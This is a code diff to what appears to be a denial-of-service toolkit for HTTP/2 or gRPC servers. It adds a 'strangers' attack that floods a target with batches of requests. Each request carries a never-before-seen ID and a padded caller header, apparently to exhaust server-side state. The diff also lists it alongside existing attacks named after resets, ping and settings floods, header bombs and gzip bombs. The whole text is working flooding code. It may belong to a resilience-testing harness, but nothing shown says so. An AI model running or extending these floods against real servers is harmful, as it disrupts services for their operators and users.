@@ -106,6 +106,29 @@ def whole_resets(target, seconds, pace):
     return flood.report(streams=count)
 
 
+def varint(number):
+    """As Protobuf writes it."""
+    out = bytearray()
+    while number >= 128:
+        out.append(number % 128 + 128)
+        number //= 128
+    return bytes([*out, number])
+
+
+def strangers(target, seconds, pace):
+    """Calls each for a shop, and by a caller, that never came before."""
+    flood, stream, count = Flood(target, seconds, pace), 1, 0
+    while flood.goes_on():
+        batch = []
+        for number in range(count, count + BATCH):
+            request = b"\x08" + varint(2**40 + number) + b"\x12\x01x"
+            name = ("x-firstmile-caller", f"stranger {number} " + 100 * "x")
+            batch.append(call(stream + 2 * (number - count), request, more=[name]))
+        sent = flood.send(b"".join(batch))
+        stream, count = (stream + 2 * BATCH if sent else 1, count + BATCH)
+    return flood.report(strangers=count)
+
+
 def repeated(target, seconds, pace, batch, unread=False):
     flood = Flood(target, seconds, pace, unread)
     while flood.goes_on():
@@ -274,7 +297,7 @@ def knocks(target, seconds, pace):
 ATTACKS = {
     attack.__name__: attack
     for attack in (
-        resets, whole_resets, pings, settings, acknowledgements, priorities, windows, empty_data, continuations,
+        resets, whole_resets, strangers, pings, settings, acknowledgements, priorities, windows, empty_data, continuations,
         empty_continuations, metadata, header_bomb, gzip_bomb, half_messages, open_streams, noise, knocks,
     )
 }
